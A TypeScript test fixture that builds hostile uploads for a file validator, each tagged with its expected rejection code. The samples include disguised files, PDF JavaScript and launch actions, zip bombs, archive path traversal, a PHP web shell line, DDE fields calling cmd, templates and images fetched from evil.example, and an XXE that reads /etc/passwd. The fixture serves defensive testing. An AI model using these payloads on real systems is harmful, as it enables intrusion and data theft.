import { jpeg, objectStream, office, officeParts, pdf, png, relation, relationships, webp } from './good-files.js';
import { zip, type ZipPart } from './zip-builder.js';

/** A file that must be refused, and why. */
export interface HostileFile {
  what: string;
  name: string;
  content: Buffer;
  code: string;
  /** Content-Type of the part; taken from the name unless given */
  type?: string;
}

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const MB = 1024 * 1024;
const docx = (...more: ZipPart[]) => office('docx', ...more);
const doc = (what: string, code: string, ...more: ZipPart[]): HostileFile => ({ what, name: '说明.docx', content: docx(...more), code });
const body = (what: string, code: string, xml: string): HostileFile => ({ what, name: '说明.docx', content: zip(officeParts('docx', xml)), code });
const rels = (what: string, code: string, tag: string, part = 'word/_rels/document.xml.rels'): HostileFile => doc(what, code, { name: part, content: relationships(tag) });
const report = (what: string, code: string, object: Buffer | string): HostileFile => ({ what, name: '报告.pdf', content: pdf([object]), code });

const TYPES: HostileFile[] = [
  { what: 'HTML as PDF', name: '报告.pdf', content: Buffer.from('<!doctype html><script>alert(1)</script>'), code: 'EXTENSION_LIES' },
  { what: 'PNG as PDF', name: '报告.pdf', content: png(), code: 'EXTENSION_LIES' },
  { what: 'PDF as PNG', name: '图.png', content: pdf(), code: 'EXTENSION_LIES' },
  { what: 'plain zip as docx', name: '说明.docx', content: zip([{ name: 'a.txt', content: 'x' }]), code: 'EXTENSION_LIES' },
  { what: 'xlsx as docx', name: '说明.docx', content: office('xlsx'), code: 'EXTENSION_LIES' },
  { what: 'SVG with script', name: '图.svg', content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), code: 'TYPE_NOT_ALLOWED' },
  { what: 'SVG as PNG', name: '图.png', content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), code: 'EXTENSION_LIES' },
  { what: 'HTML', name: '页.html', content: Buffer.from('<html></html>'), code: 'TYPE_NOT_ALLOWED' },
  { what: 'GIF that is also a script', name: '图.png', content: Buffer.from('GIF89a/*\x01\0\x01\0\0\0\0*/=1;alert(1)'), code: 'EXTENSION_LIES' },
  { what: 'program', name: '工具.exe', content: Buffer.from('MZ\x90\0'), code: 'TYPE_NOT_ALLOWED' },
  { what: 'double extension', name: '报告.exe.pdf', content: pdf(), code: 'DANGEROUS_NAME' },
  { what: 'no extension', name: '报告', content: pdf(), code: 'TYPE_NOT_ALLOWED' },
  { what: 'wrong MIME type', name: '报告.pdf', content: pdf(), type: 'text/html', code: 'MIME_LIES' },
  { what: 'nothing at all', name: '报告.pdf', content: Buffer.alloc(0), code: 'EMPTY' },
  { what: 'test virus', name: '报告.pdf', content: Buffer.from(EICAR), code: 'TEST_VIRUS' },
  { what: 'test virus in a PDF', name: '报告.pdf', content: pdf([`(${EICAR})`]), code: 'TEST_VIRUS' },
];

const PDFS: HostileFile[] = [
  { what: 'PDF behind other bytes', name: '报告.pdf', content: Buffer.concat([Buffer.from('\n\n'), pdf()]), code: 'EXTENSION_LIES' },
  { what: 'PDF with a zip behind it', name: '报告.pdf', content: Buffer.concat([pdf(), zip([{ name: 'a.exe', content: 'MZ' }])]), code: 'CARRIES_ARCHIVE' },
  report('PDF with JavaScript', 'PDF_SCRIPT', '<</S/JavaScript/JS(app.alert(1))>>'),
  report('PDF with JavaScript in another spelling', 'PDF_SCRIPT', '<</S/Java#53cript/JS(app.alert(1))>>'),
  report('PDF with packed JavaScript', 'PDF_SCRIPT', objectStream('<</S/JavaScript/JS(app.alert(1))>>')),
  report('PDF with a launch action', 'PDF_LAUNCH', '<</S/Launch/F(cmd.exe)>>'),
  report('PDF with an embedded file', 'PDF_ATTACHMENT', '<</Type/EmbeddedFile/Length 0>>'),
  report('PDF with objects packed in an unusual coding', 'PDF_UNREADABLE', objectStream('<<>>', '/Type/ObjStm/N 1/First 5/Filter/LZWDecode')),
  report('PDF that hides an object stream from scanners', 'PDF_UNREADABLE', Buffer.concat([Buffer.from('<</A 1>> stream\n% '), objectStream('<</S/JavaScript>>')])),
  { what: 'PDF with packed bomb', name: '报告.pdf', content: pdf([objectStream(Buffer.alloc(120 * MB, ' '))]), code: 'ZIP_BOMB' },
];

const IMAGES: HostileFile[] = [
  { what: 'pixel flood', name: '图.png', content: png(50_000, 50_000), code: 'IMAGE_TOO_LARGE' },
  { what: 'pixel flood as JPEG', name: '图.jpg', content: jpeg(60_000, 60_000), code: 'IMAGE_TOO_LARGE' },
  { what: 'pixel flood as WebP', name: '图.webp', content: webp(16_000, 16_000), code: 'IMAGE_TOO_LARGE' },
  { what: 'PNG with a script behind it', name: '图.png', content: Buffer.concat([png(), Buffer.from('<script>alert(1)</script>')]), code: 'TRAILING_DATA' },
  { what: 'JPEG with PHP behind it', name: '图.jpg', content: Buffer.concat([jpeg(), Buffer.from('<?php system($_GET[0]);')]), code: 'TRAILING_DATA' },
  { what: 'JPEG with a zip behind it', name: '图.jpg', content: Buffer.concat([jpeg(), zip([{ name: 'a', content: 'x' }])]), code: 'CARRIES_ARCHIVE' },
  { what: 'cut PNG', name: '图.png', content: png().subarray(0, 50), code: 'DAMAGED' },
];

const zeros = (size: number) => Buffer.alloc(size);
const ZIPS: HostileFile[] = [
  doc('flat bomb', 'ZIP_BOMB', { name: 'word/a.xml', content: zeros(60 * MB) }),
  doc('bomb in many parts', 'ZIP_BOMB', ...Array.from({ length: 120 }, (_, i) => ({ name: `word/${i}.xml`, content: Buffer.alloc(1_000_000, 'a ') }))),
  doc('directory that understates', 'ZIP_STRUCTURE', { name: 'word/a.xml', content: zeros(30 * MB), declaredSize: 1_000 }),
  doc('overlapping parts', 'ZIP_STRUCTURE', { name: 'word/a.xml', content: '<a/>' }, { name: 'word/a.xml2', content: '<a/>', sharesPrevious: true }),
  doc('nested archive', 'OFFICE_PART', { name: 'word/inner.zip', content: zip([{ name: 'a', content: zeros(MB) }]), stored: true }),
  doc('archive in an archive in an archive', 'OFFICE_PART', { name: 'word/embeddings/a.docx', content: docx({ name: 'word/embeddings/b.docx', content: docx() }) }),
  doc('path upwards', 'ZIP_PATH', { name: '../../etc/cron.d/x.xml', content: '<a/>' }),
  doc('absolute path', 'ZIP_PATH', { name: '/etc/x.xml', content: '<a/>' }),
  doc('path with backslashes', 'ZIP_PATH', { name: 'word\\..\\x.xml', content: '<a/>', flags: 0 }),
  doc('symbolic link', 'ZIP_PATH', { name: 'word/x.xml', content: '/etc/passwd', mode: 0o120777 }),
  doc('ten thousand parts', 'ZIP_ENTRIES', ...Array.from({ length: 10_000 }, (_, i) => ({ name: `word/${i}.xml`, content: '<a/>', stored: true }))),
  doc('the same part twice', 'ZIP_STRUCTURE', { name: 'word/document.xml', content: '<a/>' }),
  doc('another name before the data', 'ZIP_STRUCTURE', { name: 'word/x.xml', localName: 'word/x.exe', content: '<a/>' }),
  doc('encrypted part', 'ZIP_STRUCTURE', { name: 'word/x.xml', content: '<a/>', flags: 1 }),
  { what: 'directory that hides parts', name: '说明.docx', content: zip([...officeParts('docx'), { name: 'word/vbaProject.bin', content: 'x' }], { entryCount: 3 }), code: 'ZIP_STRUCTURE' },
];

const OFFICE: HostileFile[] = [
  doc('macro', 'OFFICE_MACRO', { name: 'word/vbaProject.bin', content: 'x' }),
  { what: 'macro-enabled document under a plain name', name: '说明.docx', content: zip(officeParts('docx', '', 'application/vnd.ms-word.document.macroEnabled.main+xml')), code: 'OFFICE_MACRO' },
  doc('OLE object', 'OFFICE_OLE', { name: 'word/embeddings/oleObject1.bin', content: 'x' }),
  doc('OLE object dressed as a picture', 'OFFICE_OLE', { name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
  doc('program inside', 'OFFICE_PART', { name: 'word/media/setup.exe', content: 'MZ' }),
  doc('test virus inside', 'OFFICE_PART', { name: 'word/media/eicar.com', content: EICAR }),
  rels('template from the net', 'OFFICE_EXTERNAL', relation('attachedTemplate', 'https://evil.example/t.dotm'), 'word/_rels/settings.xml.rels'),
  rels('template from a share', 'OFFICE_EXTERNAL', relation('attachedTemplate', '\\\\10.0.0.1\\t.dotm'), 'word/_rels/settings.xml.rels'),
  rels('picture that reports who opens it', 'OFFICE_EXTERNAL', relation('image', 'https://evil.example/p.png')),
  rels('link that starts a program', 'OFFICE_EXTERNAL', relation('hyperlink', 'ms-msdt:/id')),
  rels('HTML to be merged in', 'OFFICE_PART', relation('aFChunk', 'chunk.html', 'Internal')),
  body('DDE field', 'OFFICE_DDE', '<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>'),
  body('DDE field cut into runs', 'OFFICE_DDE', '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E</w:instrText></w:r><w:r><w:instrText> cmd</w:instrText></w:r>'),
  body('DDE field in character references', 'OFFICE_DDE', '<w:fldSimple w:instr="&#68;DEAUTO cmd"/>'),
  { what: 'xlsx with links to other workbooks', name: '表.xlsx', content: office('xlsx', { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }), code: 'OFFICE_EXTERNAL' },
  { what: 'xlsx with a DDE formula', name: '表.xlsx', content: office('xlsx', { name: 'xl/worksheets/sheet1.xml', content: `<c><f>cmd|'/c calc'!A0</f></c>` }), code: 'OFFICE_DDE' },
  { what: 'pptx that starts a program', name: '稿.pptx', content: office('pptx', { name: 'ppt/slides/slide1.xml', content: '<a:hlinkClick action="ppaction://program"/>' }), code: 'OFFICE_MACRO' },
  doc('entities that multiply', 'OFFICE_XML', { name: 'word/x.xml', content: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }),
  doc('entity that reads a file', 'OFFICE_XML', { name: 'word/x.xml', content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  doc('entities in UTF-16', 'OFFICE_XML', { name: 'word/x.xml', content: Buffer.from('\ufeff<!DOCTYPE a>', 'utf16le') }),
];

export const HOSTILE: readonly HostileFile[] = [...TYPES, ...PDFS, ...IMAGES, ...ZIPS, ...OFFICE];

